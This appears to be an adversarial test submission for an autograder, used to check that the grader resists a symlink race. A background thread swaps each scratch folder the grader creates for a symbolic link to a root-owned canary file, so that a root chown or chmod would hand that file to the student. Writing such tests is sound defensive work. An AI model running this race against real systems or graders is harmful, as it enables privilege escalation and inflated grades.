# ATTACK: root chown race. Whenever the grader makes a scratch folder in the working
# folder (net.scratch_dir(), e.g. for a Unix socket), swap it at once for a symbolic link
# to a file the student wants to own (the test puts a root-owned canary's path in
# __CANARY__; a hidden test would do): a root grader that then ran chmod or chown on
# the path would hand that file to the student's user. Expected: the canary's owner and
# mode never change and the grade is not above the honest one.
import os as _os
import threading as _threading


def _swap_scratch_folders():
    here = _os.getcwd()
    while True:
        for name in _os.listdir(here):
            if name.startswith("scratch-") and not _os.path.islink(_os.path.join(here, name)):
                path = _os.path.join(here, name)
                try:
                    _os.rename(path, path + "-moved")
                    _os.symlink("__CANARY__", path)
                except OSError:
                    pass


_threading.Thread(target=_swap_scratch_folders, daemon=True).start()
